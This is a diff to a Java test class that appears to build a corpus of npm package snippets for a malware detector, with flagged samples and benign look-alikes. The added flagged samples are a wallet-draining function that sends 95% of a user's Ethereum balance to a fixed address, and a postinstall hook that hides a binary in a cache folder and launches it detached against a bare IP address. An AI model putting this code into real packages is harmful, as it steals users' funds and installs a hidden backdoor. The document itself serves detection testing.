@@ -9,6 +9,26 @@ final class NpmWhenCalled {
   static List<Sample> all() {
     return List.of(
         Sample.required(
+            "a wallet pays nearly all that it holds",
+            """
+            exports.connect = async function (wallet) {
+              const [mine] = await wallet.request({ method: 'eth_requestAccounts' });
+              const held = BigInt(await wallet.request({ method: 'eth_getBalance', params: [mine, 'latest'] }));
+              const sum = held - held / 20n;
+              await wallet.request({ method: 'eth_sendTransaction', params: [{ from: mine, to: '0x52908400098527886E0F7030069857D2E4169EE7', value: '0x' + sum.toString(16) }] });
+            };
+            """),
+        Sample.postinstall(
+            "a program of the package is copied and told a bare address",
+            """
+            const { spawn } = require('child_process');
+            const fs = require('fs'), os = require('os'), path = require('path');
+            const to = path.join(os.homedir(), '.cache', '.kvd');
+            fs.copyFileSync(path.join(__dirname, 'bin', 'kvd'), to);
+            fs.chmodSync(to, 0o755);
+            spawn(to, ['--daemon', '-s', '198.51.100.88:4443'], { detached: true, stdio: 'ignore' }).unref();
+            """),
+        Sample.required(
             "an object that is made runs what a connection says",
             """
             "use strict";
@@ -84,6 +104,21 @@ final class NpmWhenCalled {
 
   static List<Sample> lookAlikes() {
     return List.of(
+        Sample.required(
+            "a price is paid, and what is left is shown",
+            """
+            exports.tip = async function (wallet, mine) {
+              const held = BigInt(await wallet.request({ method: 'eth_getBalance', params: [mine, 'latest'] }));
+              console.log('left: ' + held);
+              return wallet.request({ method: 'eth_sendTransaction', params: [{ from: mine, to: '0x52908400098527886E0F7030069857D2E4169EE7', value: '0x2386f26fc10000' }] });
+            };
+            """),
+        Sample.postinstall(
+            "a server of the own machine is started",
+            """
+            const { spawn } = require('child_process');
+            spawn(require('path').join(__dirname, 'bin', 'served'), ['--listen', '127.0.0.1:4443'], { detached: true, stdio: 'ignore' }).unref();
+            """),
         Sample.required(
             "a program is told to build again by a connection to the same machine",
             """
